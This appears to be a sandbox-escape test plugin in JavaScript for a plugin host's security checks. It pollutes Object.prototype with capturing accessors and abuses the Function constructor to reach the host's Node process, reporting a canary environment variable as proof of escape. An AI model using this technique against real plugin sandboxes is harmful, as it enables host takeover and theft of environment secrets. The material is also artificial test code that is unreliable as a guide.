// Accessors on Object.prototype under the names that messages have.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const names = [
      'id',
      'name',
      'call',
      'args',
      'ok',
      'value',
      'type',
      'json',
      'bytes',
      'error',
      'hook',
      'input',
      'context',
      'permissions',
      'then',
      'get',
      'set',
      'writable',
      'length',
    ];
    const kept = [];
    for (const name of names)
      Object.defineProperty(Object.prototype, name, {
        __proto__: null,
        configurable: true,
        get() {
          kept[kept.length] = this;
          return undefined;
        },
        set(value) {
          kept[kept.length] = this;
          kept[kept.length] = value;
          Object.defineProperty(this, name, {
            __proto__: null,
            value,
            writable: true,
            enumerable: true,
            configurable: true,
          });
        },
      });
    try {
      ctx.log.info('a');
      await ctx.storage.set('k', { a: 1 });
      await ctx.files.read(0, 4);
    } catch (error) {
      kept[kept.length] = error;
    }
    for (const name of names) delete Object.prototype[name];
    for (const each of kept.slice(0, 2000)) look(each);
    return { metadata: verdict() };
  },
};
